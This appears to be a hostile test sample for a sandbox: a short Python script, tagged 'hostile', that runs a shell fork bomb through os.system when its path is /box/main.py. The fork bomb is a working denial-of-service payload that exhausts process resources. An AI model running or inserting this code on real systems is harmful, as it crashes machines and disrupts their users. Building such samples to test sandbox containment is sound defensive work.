# /// hostile
# attack = "A shell function pipes itself into itself."
# reason = "tasks"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import os, time

os.system("bomb() { bomb | bomb & }; bomb")
time.sleep(60)
